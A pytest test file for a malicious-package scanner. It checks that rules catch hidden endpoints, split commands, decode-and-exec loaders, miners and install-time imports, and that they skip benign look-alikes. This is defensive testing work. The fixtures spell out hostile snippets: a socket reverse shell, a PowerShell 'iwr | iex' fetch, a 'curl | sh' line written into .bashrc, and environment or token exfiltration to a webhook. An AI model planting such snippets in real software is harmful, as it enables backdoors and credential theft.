"""Payloads spelled so that no line shows them, and code that runs earlier than where it
sits says, on small synthetic packages (reserved example hosts, documentation addresses;
nothing here is ever run), and on look-alikes that do not hide or run anything."""

from __future__ import annotations

import random
import re

import pytest

from tests.analysis.builders import npm_tarball, package, run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules import hidden
from threatfeed.analysis.rules.base import Rule
from threatfeed.analysis.rules.hidden import (
    _COMMAND_WORDS,
    _FRAGMENT,
    _FRAGMENTS,
    _may_spell_a_command,
    concealed_endpoint_rule,
    cryptominer_rule,
    decoder_function_exec_rule,
    fragmented_command_rule,
)
from threatfeed.analysis.rules.imports import imported_test_code_rule, setup_imports_package_rule
from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
from threatfeed.analysis.rules.signature_rules import (
    credential_harvesting_rule,
    decode_and_execute_rule,
    executes_code_at_remote_url_rule,
)


def _shift(text: str, by: int) -> str:
    return "".join(chr(ord(c) + by) for c in text)


URL = "https://collector.example/k"


def test_an_address_under_a_reversed_character_shift_is_decoded(engine: Engine) -> None:
    hidden = _shift(URL, 3)[::-1]
    code = (
        "import urllib.request\n\n"
        "def send(key):\n"
        f"    u = ''.join(chr(ord(c) - 3) for c in {hidden!r}[::-1])\n"
        "    urllib.request.urlopen(urllib.request.Request(u, data=key))\n"
    )
    evidence = run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/client.py": code}))
    assert evidence == [
        {
            "file": "tidy-strings-0.4.0/tidy_strings/client.py",
            "encoding": "character shift",
            "urls": [URL],
        }
    ]
    assert engine.analyze(sdist({"tidy_strings/client.py": code})).flagged


def test_an_address_in_hex_is_decoded(engine: Engine) -> None:
    code = (
        "import requests\n"
        f"HOST = bytes.fromhex({URL.encode().hex()!r}).decode()\n"
        "requests.post(HOST, json=data)\n"
    )
    evidence = run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/client.py": code}))
    assert evidence[0]["encoding"] == "hex"
    assert evidence[0]["urls"] == [URL]


def test_plain_addresses_and_decoders_of_other_data_are_not_concealed(engine: Engine) -> None:
    plain = (
        "import requests\n"
        f"BASE = {URL!r}\n"
        "def caesar(s, n):\n    return ''.join(chr(ord(c) + n) for c in s)\n"
        "digest = bytes.fromhex('00112233445566778899aabbccddeeff')\n"
        "requests.get(BASE[::-1][::-1])\n"
    )
    assert run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/c.py": plain})) is None
    # a hidden address in a file that never sends is data, not an endpoint
    quiet = f"ADDR = bytes.fromhex({URL.encode().hex()!r}).decode()\n"
    assert run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/c.py": quiet})) is None


POWERSHELL = (
    "import subprocess\n"
    "parts = ['power', 'shell -NoP', 'rofile -Ex', 'ecutionPolicy By', 'pass -C \"iw',\n"
    "         'r https://x.example.net/a.ps1 | iex\"']\n"
    "subprocess.run(''.join(parts), shell=True)\n"
)


def test_a_command_split_inside_its_keywords_and_joined_is_found(engine: Engine) -> None:
    evidence = run_rule(engine, fragmented_command_rule, sdist({"tidy_strings/w.py": POWERSHELL}))
    assert evidence[0]["words"] == ["executionpolicy", "powershell"]
    assert evidence[0]["command"].startswith("powershell -NoProfile -ExecutionPolicy Bypass")


def test_argument_lists_and_built_addresses_split_no_keyword(engine: Engine) -> None:
    argv = (
        "import subprocess\n"
        "cmd = ['curl', '-fsSL', '-o', 'out.tar.gz', url]\n"
        "subprocess.run(cmd)\n"
        "base = ''.join(['https', '://', host, ':', port])\n"
    )
    assert run_rule(engine, fragmented_command_rule, sdist({"tidy_strings/w.py": argv})) is None
    # the same fragments, joined but never run by the file
    quiet = POWERSHELL.replace("subprocess.run(''.join(parts), shell=True)", "print(parts)")
    quiet = quiet.replace("import subprocess\n", "")
    assert run_rule(engine, fragmented_command_rule, sdist({"tidy_strings/w.py": quiet})) is None


def test_a_miner_started_with_a_pool_is_cryptojacking(engine: Engine) -> None:
    code = (
        "import subprocess\n"
        "subprocess.Popen(['./xmr', '-o', 'stratum+tcp://pool.example.net:3333',"
        " '--donate-level', '1'])\n"
    )
    evidence = run_rule(engine, cryptominer_rule, sdist({"tidy_strings/m.py": code}))
    assert evidence[0]["signatures"] == ["starts a cryptocurrency miner with a pool and a wallet"]
    # a pool address in a library's settings starts nothing
    config = "DEFAULT_POOL = 'stratum+tcp://pool.example.net:3333'\n"
    assert run_rule(engine, cryptominer_rule, sdist({"tidy_strings/m.py": config})) is None


BLOB = "QUJD" * 30
ZLIB_HEX = "789c" + "0f" * 120
STAGE = (
    "import os, zipfile, requests\n"
    "home = os.getenv('LOCALAPPDATA')\n"
    "r = requests.get('https://x.example.net/stage')\n"
    "open(home + '/s.zip', 'wb').write(r.content)\n"
    "zipfile.ZipFile(home + '/s.zip').extractall(home + '/s')\n"
)
YARA_CASES: list[tuple[Rule, str, str]] = [
    (
        decode_and_execute_rule,
        "import base64\ncake = base64.b64decode(blob).decode()\nexec(cake)\n",
        "import base64\ncake = base64.b64decode(blob).decode()\nprint(cake)\n",
    ),
    (
        obfuscated_code_rule,
        f"import zlib\nrun(zlib.decompress(bytes.fromhex('{ZLIB_HEX}')))\n",
        # a hex digest or key of the same length is not a compressed stream
        f"KEY = bytes.fromhex('{'0f' * 122}')\n",
    ),
    (
        obfuscated_code_rule,
        "rq = __import__('requests')\n"
        "g = getattr(rq, ''.join(['g', 'e', 't']))\ng(url, timeout=5)\n",
        # a network library by name, and a method name joined from words, not characters
        "rq = __import__('requests')\nname = '_'.join(['get', 'json'])\n",
    ),
    (
        decode_and_execute_rule,
        "import base64, builtins\nname = unseal(SEALED_NAME, key)\n"
        "getattr(builtins, name)(base64.b64decode(blob).decode())\n",
        # a builtin picked by name, handed plain data
        "import builtins\nfor name in ('len', 'repr'):\n"
        "    print(getattr(builtins, name)(items))\n",
    ),
    (
        decode_and_execute_rule,
        "_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s[::-1]))\n"
        f"exec((_)(b'{BLOB}'))\n",
        # the decoder applied to a blob, the result kept as data
        "_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s))\n"
        f"table = (_)(b'{BLOB}')\n",
    ),
    (
        decode_and_execute_rule,
        "import base64\n\nclass Loader:\n    blob = 'AAEC'\n"
        "    def decode(self, data, key):\n"
        "        raw = base64.b64decode(data)\n"
        "        return bytes(b ^ key[i % len(key)] for i, b in enumerate(raw)).decode()\n"
        "    def run(self):\n        exec(self.decode(self.blob, b'k'))\n",
        # websocket masking: the same XOR, nothing executed
        "def mask(data, key):\n"
        "    return bytes(b ^ key[i % 4] for i, b in enumerate(data))\n"
        "payload = mask(base64.b64decode(frame), key)\n",
    ),
    (
        obfuscated_code_rule,
        "import base64, requests\n\ndef sign(key):\n"
        "    requests.get(base64.b64decode(SIGNER) + key)\n",
        "import base64, requests\n\ndef sign(key):\n"
        "    requests.get(SIGNER_URL, params={'k': base64.b64encode(key)})\n",
    ),
    (
        credential_harvesting_rule,
        "import json, os, requests\n"
        "env = dict(os.environ)\n"
        "blob = json.dumps(env)\n"
        "requests.post(URL, data=blob)\n",
        "import os, subprocess\nenv = dict(os.environ)\nenv['LANG'] = 'C'\n"
        "subprocess.run(['make'], env=env)\n",
    ),
    (
        executes_code_at_remote_url_rule,
        "import os, tempfile\n\ndef fetch(url):\n"
        "    out = os.path.join(tempfile.gettempdir(), 'a.png')\n"
        '    os.system(f\'curl -s -L "{url}" -o "{out}"\')\n'
        '    os.system(f\'cmd /c start "" "{out}"\')\n',
        "import os\n\ndef fetch(url):\n    os.system(f'curl -s -L \"{url}\" -o data.json')\n",
    ),
]


def test_a_python_script_run_from_a_downloaded_archive(engine: Engine) -> None:
    label = "downloads an archive, unpacks it and runs a Python script from it"
    script = STAGE + "os.system(f'py {home}/s/pkg/__init__.py')\n"
    evidence = run_rule(
        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/m.py": script})
    )
    assert label in evidence[0]["signatures"]
    # a tool unpacked and its binary run (what other signatures make of it is theirs)
    tool = STAGE + "os.system(f'{home}/s/tool --version')\n"
    evidence = run_rule(
        engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/m.py": tool})
    )
    assert label not in evidence[0]["signatures"]


@pytest.mark.parametrize(("rule", "bad", "good"), YARA_CASES)
def test_signature_fires_on_technique_and_not_on_look_alike(
    engine: Engine, rule: Rule, bad: str, good: str
) -> None:
    assert run_rule(engine, rule, sdist({"tidy_strings/m.py": bad})), rule.__name__
    assert run_rule(engine, rule, sdist({"tidy_strings/m.py": good})) is None


SHELL = (
    "import os, pty, socket\n"
    "s = socket.socket()\ns.connect(('192.0.2.7', 4444))\n"
    "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
)


def test_setup_importing_its_package_runs_its_init_at_install(engine: Engine) -> None:
    setup = "import tidy_strings\nfrom setuptools import setup\n\nsetup(name='tidy-strings')\n"
    archive = sdist({"tidy_strings/__init__.py": SHELL}, setup_py=setup)
    evidence = run_rule(engine, setup_imports_package_rule, archive)
    assert evidence == [
        {
            "file": "tidy-strings-0.4.0/setup.py",
            "imports": "tidy-strings-0.4.0/tidy_strings/__init__.py",
            "signatures": ["socket wired to a shell"],
        }
    ]
    found = setup_imports_package_rule(package(engine, archive))
    assert found is not None
    # what the import adds brings the import-time weight (0.8) up to install time (1.0)
    assert {s.context for s in found.signals} == {"install"}
    assert engine.analyze(archive).flagged


def test_setup_importing_a_clean_package_or_not_importing_adds_nothing(engine: Engine) -> None:
    setup = "from tidy_strings import __version__\nfrom setuptools import setup\nsetup()\n"
    clean = sdist({"tidy_strings/__init__.py": "__version__ = '1.0'\n"}, setup_py=setup)
    assert run_rule(engine, setup_imports_package_rule, clean) is None
    unrelated = sdist({"tidy_strings/__init__.py": SHELL})
    assert run_rule(engine, setup_imports_package_rule, unrelated) is None


BASHRC = (
    "import os\n\ndef reset():\n"
    "    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
    "        f.write('curl -fsSL https://x.example.net/p.sh | sh\\n')\n"
)


def test_a_test_module_imported_by_the_package_counts_as_package_code(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/__init__.py": "from .tests import helpers\n\nhelpers.reset()\n",
            "tidy_strings/tests/__init__.py": "",
            "tidy_strings/tests/helpers.py": BASHRC,
        }
    )
    evidence = run_rule(engine, imported_test_code_rule, archive)
    assert evidence[0]["file"] == "tidy-strings-0.4.0/tidy_strings/tests/helpers.py"
    assert evidence[0]["imported_by"] == "tidy-strings-0.4.0/tidy_strings/__init__.py"
    assert evidence[0]["signatures"]


def test_tests_importing_their_own_helpers_are_still_tests(engine: Engine) -> None:
    archive = sdist(
        {
            "tidy_strings/tests/__init__.py": "",
            "tidy_strings/tests/helpers.py": BASHRC,
            "tidy_strings/tests/test_reset.py": "from .helpers import reset\n",
        }
    )
    assert run_rule(engine, imported_test_code_rule, archive) is None


DECODER = (
    "import base64, os\n\n"
    "def load(name):\n"
    "    with open(os.path.join(os.path.dirname(__file__), name)) as f:\n"
    "        text = f.read()\n"
    "    return base64.b64decode(text)\n\n"
)


def test_exec_of_what_a_decoder_function_returns_is_found(engine: Engine) -> None:
    code = DECODER + "def start():\n    exec(load('table.dat'))\n"
    archive = sdist({"tidy_strings/loader.py": code})
    evidence = run_rule(engine, decoder_function_exec_rule, archive)
    assert evidence == [
        {"file": "tidy-strings-0.4.0/tidy_strings/loader.py", "line": 9, "decoder": "load"}
    ]
    assert engine.analyze(archive).flagged


def test_exec_of_another_function_next_to_a_decoder_is_not(engine: Engine) -> None:
    code = (
        DECODER
        + "def render(t):\n    return t.format(**globals())\n\n"
        + "exec(render(TEMPLATE))\nicon = load('icon.dat')\n"
    )
    assert run_rule(engine, decoder_function_exec_rule, sdist({"tidy_strings/m.py": code})) is None


def test_a_list_whose_joined_text_holds_a_command_word_may_spell_one() -> None:
    pieces = [b"Pow", b"er", b"SHELL", b"nc", b" -", b"e", b"cu", b"rl", b"/dev", b"/tcp"]
    pieces += [b"\\'", b",", b" ", b"\xc0", b"x"]
    separators = [b",", b", ", b" ,\n  ", b"\t,"]
    rng = random.Random(8)
    seen = 0
    for _ in range(3000):
        fragments = [b"".join(rng.choices(pieces, k=rng.randint(0, 4))) for _ in range(5)]
        listing = b"[ " + b"".join(
            b"'" + fragment + b"'" + rng.choice(separators) for fragment in fragments
        )
        listing = listing[: -len(b",")] if listing.endswith(b",") else listing
        match = _FRAGMENTS.fullmatch(listing + b"]")
        if match is None:
            continue  # a fragment too long for the pattern
        joined = b"".join(fragments).decode("latin-1").lower()
        if any(word in joined for word in _COMMAND_WORDS):
            seen += 1
            assert _may_spell_a_command(match.group(0))
    assert seen > 100


def _spans(pattern: re.Pattern[bytes], data: bytes) -> list[tuple[int, int]]:
    return [match.span() for match in pattern.finditer(data)]


def test_lists_of_fragments_are_those_of_the_backtracking_pattern() -> None:
    string = rb"""(?:"(?:[^"\\\n]|\\.){0,40}"|'(?:[^'\\\n]|\\.){0,40}')"""
    fragment = re.compile(string)
    fragments = re.compile(rb"\[\s*(?:" + string + rb"\s*,\s*){2,60}" + string + rb"\s*,?\s*\]")
    rng = random.Random(9)
    inside = [b"ab", b"x" * 19, b"\\'", b'\\"', b"\\\\", b"\\", b"'", b'"', b"\n"]
    separators = [b",", b", ", b" ,\n ", b"", b"]", b"[", b" "]
    cases = []
    for _ in range(3000):
        items = [
            rng.choice((b"'", b'"'))
            + b"".join(rng.choices(inside, [8, 2, 1, 1, 1, 1, 1, 1, 1], k=rng.randint(0, 3)))
            for _ in range(rng.randint(1, 8))
        ]
        items = [item + rng.choice((item[:1], item[:1], item[:1], b"'", b'"')) for item in items]
        body = b"".join(item + rng.choices(separators, [9, 9, 3, 1, 1, 1, 1])[0] for item in items)
        cases.append(rng.choice((b"[", b"[ ", b"x = [")) + body + rng.choice((b"]", b"", b",]")))
    for count in (2, 3, 60, 61, 62, 100):  # the list at its bounds, and over them
        for literal in (b"'a'", b"'" + b"x" * 40 + b"'", b"'" + b"x" * 41 + b"'", b"'\\''"):
            cases.append(b"[" + b", ".join([literal] * count) + b"]")
    for data in cases:
        assert _spans(_FRAGMENTS, data) == _spans(fragments, data)
        assert _spans(_FRAGMENT, data) == _spans(fragment, data)


@pytest.mark.parametrize("behind", [hidden._BEHIND, 12, 20])
def test_decoder_returns_are_the_word_bounded_matches_of_the_regex(
    monkeypatch: pytest.MonkeyPatch, behind: int
) -> None:
    monkeypatch.setattr(hidden, "_BEHIND", behind)
    bounded = re.compile(
        rb"\breturn\s+(?:base64\.)?(?:b64decode|b32decode|b85decode"
        rb"|decodebytes|decompress|unhexlify|fromhex)\s*\("
    )
    pieces = [b"return", b" ", b"\t", b"\n", b"base64.", b"b64decode", b"fromhex", b"decode"]
    pieces += [b"(", b"x", b"no", b".", b"_", b"base64", b" " * 30, b"(" * 12]
    rng = random.Random(5)
    for _ in range(5000):
        data = b"".join(rng.choices(pieces, k=rng.randint(0, 40)))
        expected = [match.start() for match in bounded.finditer(data)]
        assert hidden._returns(data) == expected, data


@pytest.mark.parametrize(
    ("code", "address"),
    [
        (
            "import requests, os\nrequests.post('htt' + 'ps://disc' + 'ord.com/api/webhooks/1/x',"
            " data=os.environ.get('TOKEN'))\n",
            "https://discord.com",
        ),
        (
            "import socket\ns = socket.socket()\ns.connect(('89.39.' + '121.49', 4444))\n",
            "89.39.121.49",
        ),
    ],
)
def test_an_address_split_across_literals_in_code_that_sends_is_concealed(
    engine: Engine, code: str, address: str
) -> None:
    evidence = run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/m.py": code}))
    assert evidence[0]["encoding"] == "concatenation"
    assert evidence[0]["urls"] == [address]


def test_an_address_split_in_javascript_is_concealed(engine: Engine) -> None:
    code = (
        "const h = require('https');\n"
        "h.get('ht' + 'tps://coll' + 'ect.example.net/' + process.env.USER);\n"
    )
    evidence = run_rule(engine, concealed_endpoint_rule, npm_tarball({"index.js": code}))
    assert evidence[0]["urls"] == ["https://collect.example.net"]


@pytest.mark.parametrize(
    "code",
    [
        "import requests\nrequests.get('https://' + 'api.example.net' + '/v1/x')\n",
        "import requests\nrequests.get('https://api.example.net/long/' + 'path/x')\n",
        "import requests\nrequests.get('https://' + host + '.example.net')\n",
        "VERSION = '1.2.' + '3'\nimport requests\nrequests.get(URL)\n",
        "print('htt' + 'ps://disc' + 'ord.com')\n",  # sends nothing
    ],
)
def test_urls_joined_after_their_host_or_in_code_that_sends_nothing_are_not(
    engine: Engine, code: str
) -> None:
    archive = sdist({"tidy_strings/m.py": code})
    assert run_rule(engine, concealed_endpoint_rule, archive) is None


def test_a_url_constant_and_the_docstring_after_it_are_not_one_string(engine: Engine) -> None:
    code = (
        'import requests\nAPI_BASE_URL = "https://www.example.net"\n'
        '"""The base of the API call URL."""\nrequests.get(API_BASE_URL)\n'
    )
    archive = sdist({"tidy_strings/m.py": code})
    assert run_rule(engine, concealed_endpoint_rule, archive) is None
    joined = "import requests\nrequests.get('https://www.example.net' 'The/x')\n"
    assert run_rule(engine, concealed_endpoint_rule, sdist({"tidy_strings/m.py": joined})) is None
